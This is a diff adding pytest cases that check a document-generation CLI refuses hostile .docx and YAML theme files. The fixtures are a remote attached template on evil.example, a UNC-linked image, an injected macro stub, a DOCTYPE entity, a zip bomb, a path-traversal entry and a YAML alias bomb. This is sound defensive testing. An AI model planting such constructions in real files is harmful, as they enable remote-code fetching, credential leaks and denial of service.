@@ -157,3 +157,92 @@ def test_update_handles_a_tab_before_a_comment(tmp_path):
     after = plan.read_text()
     assert "- id: newc" in after and "cold storage # tab, then comment" in after
     assert run("validate", str(plan)).exit_code == 0
+
+
+# -- hostile theme files ----------------------------------------------------------------------------------------
+
+def _theme(tmp_path: Path) -> Path:
+    brand = tmp_path / "brand"
+    assert run("theme", "init", str(brand)).exit_code == 0
+    return brand
+
+
+def _rewrite(source: Path, target: Path, change=None, add: dict | None = None, compress=None) -> None:
+    import zipfile
+
+    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target.with_suffix(".tmp"), "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info)
+            if change is not None:
+                data = change(info.filename, data)
+            zout.writestr(info.filename, data)
+        for name, data in (add or {}).items():
+            zout.writestr(name, data)
+    target.with_suffix(".tmp").replace(target)
+
+
+ATTACHED = (b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'attachedTemplate" Target="file://evil.example/share/t.dotm" TargetMode="External"/>')
+LINKED = (b'<Relationship Id="rIdP" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+          b'image" Target="\\\\\\\\evil\\\\share\\\\p.png" TargetMode="External"/>')
+
+
+def _with_rel(rel: bytes):
+    def change(name: str, data: bytes) -> bytes:
+        if name == "word/_rels/settings.xml.rels" or name == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", rel + b"</Relationships>")
+        return data
+    return change
+
+
+@pytest.mark.parametrize("case, message", [
+    ("attached_template", "links to 'file://evil.example/share/t.dotm'"),
+    ("linked_picture", "external links"),
+    ("macros", "holds macros"),
+    ("doctype", "DOCTYPE"),
+    ("bomb", "inflates"),
+    ("climbing_name", "outside the package"),
+    ("not_zip", "not an Office file"),
+    ("truncated", "not an Office file"),
+])
+def test_hostile_theme_documents_are_refused_before_anything_is_written(tmp_path, case, message):
+    brand = _theme(tmp_path)
+    reference = brand / "reference.docx"
+    original = reference.read_bytes()
+    if case == "attached_template":
+        _rewrite(reference, reference, _with_rel(ATTACHED))
+    elif case == "linked_picture":
+        _rewrite(reference, reference, _with_rel(LINKED))
+    elif case == "macros":
+        _rewrite(reference, reference, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
+    elif case == "doctype":
+        _rewrite(reference, reference, lambda n, d: d.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
+                 if n == "word/styles.xml" else d)
+    elif case == "bomb":
+        _rewrite(reference, reference, add={"word/media/big.xml": b"\0" * (101 * 1024 * 1024)})
+    elif case == "climbing_name":
+        _rewrite(reference, reference, add={"../../escape.xml": b"<x/>"})
+    elif case == "not_zip":
+        reference.write_bytes(b"this is not a zip file at all")
+    elif case == "truncated":
+        reference.write_bytes(original[: len(original) // 2])
+    out = tmp_path / "out"
+    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(out), "--theme", str(brand))
+    assert result.exit_code == 2, result.output
+    assert "reference.docx" in result.output and message in result.output and "Traceback" not in result.output
+    assert not out.exists()
+    # theme check says the same
+    checked = run("theme", "check", str(brand))
+    assert checked.exit_code == 2 and message in checked.output
+
+
+def test_a_theme_yaml_alias_bomb_is_refused(tmp_path):
+    brand = _theme(tmp_path)
+    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
+    for i in range(1, 9):
+        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
+    (brand / "theme.yaml").write_text("\n".join(lines) + "\nname: bomb\n")
+    assert (brand / "theme.yaml").stat().st_size < 2048
+    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(tmp_path / "out"), "--theme", str(brand))
+    assert result.exit_code == 2 and "theme.yaml" in result.output and "aliases" in result.output
+    assert not (tmp_path / "out").exists()
